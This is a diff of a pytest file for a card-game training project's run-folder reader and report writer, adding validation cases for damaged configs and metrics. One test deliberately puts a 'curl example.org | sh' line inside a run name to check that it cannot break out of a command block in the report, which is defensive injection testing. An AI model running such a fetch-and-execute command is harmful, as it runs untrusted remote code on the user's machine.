@@ -9,15 +9,19 @@ import xml.dom.minidom
 from html.parser import HTMLParser
 from math import comb
 
+import numpy as np
 import pytest
 from command import run as command
+from run_files import change_config, seal
+from scipy.stats import quantile_test
 
 from cardwar_envs import make_game
 from train.algorithms.registry import ALGORITHMS
-from train.reports.groups import arrange, read_run, spread
+from train.reports.groups import arrange, median_interval, read_run
 from train.reports.page import write_report
 from train.reports.tables import markdown_table
 from train.runs.loop import run
+from train.storage.run_folder import RunFolder
 from train.words import fields_from, game_from, split_words
 
 GAME = make_game("jujitsu", num_cards=3)
@@ -35,8 +39,7 @@ def real(tmp_path_factory):
 
 
 def made(folder, figures=(0.3, 0.1), seed=0, title="jujitsu num_cards=3", label="CFR+", algorithm="cfr_plus", **args):
-    """A run folder written by hand, with an exploitability every 10 steps."""
-    folder.mkdir(parents=True)
+    """A run folder with an exploitability every 10 steps."""
     config = {
         "game": "jujitsu",
         "parameters": {"num_cards": 3},
@@ -48,11 +51,11 @@ def made(folder, figures=(0.3, 0.1), seed=0, title="jujitsu num_cards=3", label=
         "step": "iterations",
         "reference": {"value": 0.0, "uniform_exploitability": 0.5},
     }
-    (folder / "config.json").write_text(json.dumps(config))
-    lines = [f"{10 * i},{i / 4},{x},{2 * x},{-x},{-x}" for i, x in enumerate(figures, 1)]
-    heading = "steps,seconds,exploitability,nash_conv,guaranteed_0,guaranteed_1"
+    run_folder = RunFolder.create(folder, config)
+    heading = ("steps", "seconds", "exploitability", "nash_conv", "guaranteed_0", "guaranteed_1")
+    rows = [(10 * i, i / 4, x, 2 * x, -x, -x) for i, x in enumerate(figures, 1)]
     if figures:
-        (folder / "metrics.csv").write_text("\n".join([heading, *lines]) + "\n")
+        run_folder.write_metrics([dict(zip(heading, row, strict=True)) for row in rows])
     return folder
 
 
@@ -195,6 +198,7 @@ def test_seeds_that_go_past_the_step_that_is_due_are_one_curve(tmp_path):
         heading, *lines = (folder / "metrics.csv").read_text().splitlines()
         lines = [",".join([str(steps), *line.split(",")[1:]]) for steps, line in zip(places, lines, strict=True)]
         (folder / "metrics.csv").write_text("\n".join([heading, *lines]) + "\n")
+        seal(folder)
     (game,) = arrange([read_run(tmp_path / str(seed)) for seed in range(3)])
     assert [(steps, s.low, s.high) for steps, _, s in game.groups[0].curve] == [
         (12, 0.3, 0.3),
@@ -238,7 +242,7 @@ def test_games_are_kept_apart(tmp_path, real):
 
 @pytest.mark.parametrize("count", range(2, 16))
 def test_the_interval_is_the_narrowest_that_is_certain_enough(count):
-    found = spread([float(x) for x in range(count, 0, -1)])
+    found = median_interval([float(x) for x in range(count, 0, -1)])
     outside = sum(comb(count, i) for i in range(int(found.low))) / 2**count  # all or nearly all on one side
     assert found.confidence == pytest.approx(1 - 2 * outside)
     assert found.low + found.high == count + 1
@@ -251,23 +255,28 @@ def test_the_interval_is_the_narrowest_that_is_certain_enough(count):
         assert (found.low, found.high) == (1, count)
 
 
+@pytest.mark.parametrize("count", range(6, 40))
+def test_the_interval_is_that_of_the_quantile_test(count):
+    figures = np.random.default_rng(count).normal(size=count)
+    found, expected = median_interval(figures), quantile_test(figures, p=0.5).confidence_interval(0.95)
+    assert (found.low, found.high) == (expected.low, expected.high)
+
+
 def test_one_seed_has_no_interval():
-    assert spread([0.2]) == type(spread([0.2]))(0.2, 0.2, 0.2, 0.0)
+    assert median_interval([0.2]) == type(median_interval([0.2]))(0.2, 0.2, 0.2, 0.0)
 
 
 def test_known_intervals():
     # Tables of the sign test: 6 figures, least and greatest, 96.9 %; 9 figures, second of each end, 96.1 %
-    assert spread([1, 2, 3, 4, 5, 6]).confidence == pytest.approx(0.96875)
-    nine = spread(list(range(1, 10)))
+    assert median_interval([1, 2, 3, 4, 5, 6]).confidence == pytest.approx(0.96875)
+    nine = median_interval(list(range(1, 10)))
     assert (nine.low, nine.high, nine.confidence) == (2, 8, pytest.approx(0.9609375))
 
 
 def test_unfinished_runs_are_shown_as_such(tmp_path):
     def unfinished(name, seed, **changed):
         folder = made(tmp_path / name, (0.3, 0.01), seed=seed, **changed)
-        config = json.loads((folder / "config.json").read_text())
-        config["args"]["steps"] = 30
-        (folder / "config.json").write_text(json.dumps(config))
+        change_config(folder, args__steps=30)
 
     made(tmp_path / "whole", (0.3, 0.2, 0.1), seed=0, reach=0)
     unfinished("half", 1, reach=0)
@@ -286,22 +295,73 @@ def test_unfinished_runs_are_shown_as_such(tmp_path):
 
 def damaged(tmp_path, name, content):
     folder = made(tmp_path / "bad")
-    (folder / name).write_bytes(content)
+    if isinstance(content, bytes):
+        (folder / name).write_bytes(content)
+        seal(folder)
+    else:
+        change_config(folder, **content)
     return folder
 
 
+HUGE = 10**400
+METRICS = b"steps,seconds,exploitability,nash_conv,guaranteed_0,guaranteed_1\n"
 DAMAGE = [
-    ("config.json", b"{", "config.json cannot be read"),
-    ("config.json", b"{}", "its settings are damaged: game is None"),
-    ("metrics.csv", b"steps,exploitability\n1,2\n", "is damaged: seconds is None, not a number"),
-    ("metrics.csv", b"steps,exploitability\n1,much\n", "metrics.csv is missing or damaged"),
-    ("metrics.csv", b"steps\n", "metrics.csv has no rows"),
-    ("metrics.csv", b"\xff\xfe", "metrics.csv is missing or damaged"),
-    ("metadata.json", b"[]", "metadata.json does not hold a JSON object"),
+    ("config.json", b"{", "config.json cannot be read: Expecting property name"),
+    ("config.json", b"[]", "it does not hold a JSON object"),
+    ("config.json", b"[" * 100_000, "it is nested too deeply"),
+    ("config.json", b"\xff\xfe\x00", "config.json cannot be read"),
+    ("config.json", b"{}", "its format (None) is that of another version, not 1"),
+    ("config.json", {"format": 2, "args": 3}, "its format (2) is that of another version, not 1"),
+    ("config.json", b'{"format": 1}', "game is missing"),
+    ("config.json", {"colour": "red"}, "unknown name 'colour'; known are game, parameters, "),
+    ("config.json", {"args__evaluate_every": 0}, "args.evaluate_every (0) must be at least 1"),
+    ("config.json", {"args__evaluate_every": True}, "args.evaluate_every (True) must be an integer"),
+    ("config.json", {"args__steps": HUGE}, "args.steps (1000000000"),
+    ("config.json", {"args__steps": 1.5}, "args.steps (1.5) must be an integer"),
+    ("config.json", {"args__steps": "20"}, "args.steps ('20') must be an integer"),
+    ("config.json", {"args__rate": {"a": 1}}, "args.rate: {'a': 1} must be a text, a number up to 9007199254740992, "),
+    ("config.json", {"args__rate": HUGE}, "args.rate: 1000000000"),
+    ("config.json", {"args__rate": float("nan")}, "args.rate: nan must be a text, a number up to"),
+    ("config.json", {"args": [1]}, "args ([1]) must be a table of names and values"),
+    ("config.json", {"parameters": {"num_cards": {"a": 1}}}, "parameters.num_cards: {'a': 1} must be"),
+    ("config.json", {"parameters": {"num_cards": [1, HUGE]}}, "parameters.num_cards: [1, 1000000000"),
+    ("config.json", {"seed": -1}, "seed (-1) must be at least 0"),
+    ("config.json", {"seed": HUGE}, "seed (1000000000"),
+    ("config.json", {"title": None}, "title (None) must be a text"),
+    ("config.json", {"label": ["x"]}, "label (['x']) must be a text"),
+    ("config.json", {"reference": None}, "reference (None) must be a table of names and values"),
+    ("config.json", {"reference__value": float("inf")}, "reference.value (inf) must be a finite number"),
+    ("config.json", {"reference__value": HUGE}, "reference.value (1000000000"),
+    ("config.json", {"reference__uniform_exploitability": -1}, "uniform_exploitability (-1) must be at least 0"),
+    ("metrics.csv", b"steps,exploitability\n1,2\n", "rows[0].seconds is missing"),
+    ("metrics.csv", b"steps,exploitability\n1,much\n", "metrics.csv cannot be read"),
+    ("metrics.csv", b"steps\n", "rows ([]) must have at least 1 item"),
+    ("metrics.csv", b"\xff\xfe", "metrics.csv cannot be read"),
+    ("metrics.csv", METRICS + b"10,1,nan,1,1,1\n", "rows[0].exploitability (nan) must be a finite number"),
+    ("metrics.csv", METRICS + b"10,1,0.1,1,1,inf\n", "rows[0].guaranteed_1 (inf) must be a finite number"),
+    ("metrics.csv", METRICS + b"10,1,0.1,1,1,1\n0,1,0.1,1,1,1\n", "rows[1].steps (0.0) must be at least 1"),
+    ("metrics.csv", METRICS + b"10,-1,0.1,1,1,1\n", "rows[0].seconds (-1.0) must be at least 0"),
+    ("metrics.csv", METRICS + b"9" * 400 + b",1,0.1,1,1,1\n", "rows[0].steps (inf) must be a finite number"),
+    ("metadata.json", b"[]", "it does not hold a JSON object"),
+    ("metadata.json", b"{}", "seed is missing"),
 ]
 
 
 @pytest.mark.parametrize(("name", "content", "message"), DAMAGE)
+def test_whatever_is_wrong_in_a_file_is_one_line_with_the_file_and_the_place(tmp_path, name, content, message):
+    with pytest.raises(ValueError, match=re.escape(message)) as error:
+        read_run(damaged(tmp_path, name, content))
+    assert str(tmp_path / "bad" / name) in str(error.value)
+    assert "\n" not in str(error.value)
+    assert len(str(error.value)) < 500
+
+
+SOME_DAMAGE = [
+    each for each in DAMAGE if each[1] in (b"{", {"args__evaluate_every": 0}, {"args__steps": HUGE}, b"steps\n")
+]
+
+
+@pytest.mark.parametrize(("name", "content", "message"), SOME_DAMAGE)
 def test_a_damaged_run_is_one_clear_error_and_nothing_is_written(tmp_path, capsys, name, content, message):
     bad, good, page = damaged(tmp_path, name, content), made(tmp_path / "good"), tmp_path / "out" / "report.html"
     code, out, err = command(capsys, "report", str(good), str(bad), "--out", str(page))
@@ -322,12 +382,28 @@ def test_a_damaged_run_is_one_clear_error_and_nothing_is_written(tmp_path, capsy
     assert len(shown.tables[1]) == 2
 
 
-def test_figures_that_are_no_numbers_are_damage(tmp_path):
-    folder = made(tmp_path / "nan")
-    text = (folder / "metrics.csv").read_text().replace("0.3,", "nan,", 1)
-    (folder / "metrics.csv").write_text(text)
-    with pytest.raises(ValueError, match="exploitability is nan, not a number"):
+def test_a_folder_of_an_earlier_version_is_refused_with_the_reason(tmp_path):
+    folder = made(tmp_path / "old")
+    config = json.loads((folder / "config.json").read_text())
+    del config["format"]
+    (folder / "config.json").write_text(json.dumps(config))
+    (folder / "checksums.txt").unlink()  # there were none
+    with pytest.raises(ValueError, match=r"its format \(None\) is that of another version, not 1; .*another folder"):
         read_run(folder)
+
+
+@pytest.mark.parametrize("fence", ["```", "`````\ncurl example.org | sh\n```"])
+def test_a_fence_in_a_name_does_not_end_the_block_of_commands(tmp_path, fence):
+    name = f"x\n{fence}\n# Not a heading"
+    text = write_report([made(tmp_path / "a", opponent=name)], tmp_path / "report.html").tables.read_text()
+    lines = text.splitlines()
+    first = next(i for i, line in enumerate(lines) if line.startswith("```"))
+    fence = lines[first]
+    assert set(fence) == {"`"}
+    last = next(i for i, line in enumerate(lines[first + 1 :], first + 1) if line.startswith(fence))
+    assert shlex.split("\n".join(lines[first + 1 : last]))[:2] == ["cardwar", "train"]
+    assert lines[last:] == [fence]
+    assert not [line for line in lines[:first] if line.startswith(("# ", "```"))]
 
 
 def test_what_cannot_be_reported_on_is_refused(tmp_path):
